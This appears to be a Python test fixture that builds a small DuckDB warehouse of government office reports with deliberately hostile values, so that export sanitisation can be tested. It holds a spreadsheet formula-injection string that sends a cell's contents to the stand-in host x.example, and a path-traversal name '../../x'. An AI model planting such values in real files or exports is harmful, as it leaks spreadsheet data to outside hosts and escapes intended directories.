"""A small build to be released: hostile texts, a finding, an office without a report of every year."""

from __future__ import annotations

from pathlib import Path

import duckdb

from findings.record import record
from tests.unit.findings.plain_rule import ONE_CELL, plain
from tests.unit.warehouse.small_build import Small, make

FORMULA = '=HYPERLINK("http://x.example/?"&A1)'


def build(folder: Path, asked: str = "7", extra: tuple[str, ...] = ()) -> Path:
    """Two offices, one of them with a hostile name, and a finding on the requests of the first."""
    draft = make(
        folder,
        Small(
            1,
            2021,
            printed={
                "t3.requests_new.total": asked,
                "t3.granted.total": "/",
                "t2.government_rules.issued": "?",
            },
        ),
        Small(2, 2022),
        offices={
            1: {"name": "青禾县民政局", "province": "某省", "county": "青禾县"},
            2: {"name": FORMULA, "county": "../../x"},
        },
    )
    hostile = plain(ONE_CELL, severity="error", message_zh=FORMULA, message_en="not 0")
    record(draft, {hostile.code: hostile})
    with duckdb.connect(str(draft)) as connection:
        for i, text in enumerate(extra):
            connection.execute("INSERT INTO sections VALUES (2, 2022, 'overview', ?, ?)", [text, 100 + i])
        connection.execute(
            "UPDATE requests SET text = ?, value = NULL, status = 'unreadable'"
            " WHERE office_id = 2 AND outcome = 'granted' AND applicant = 'total'",
            [FORMULA],
        )
    return draft
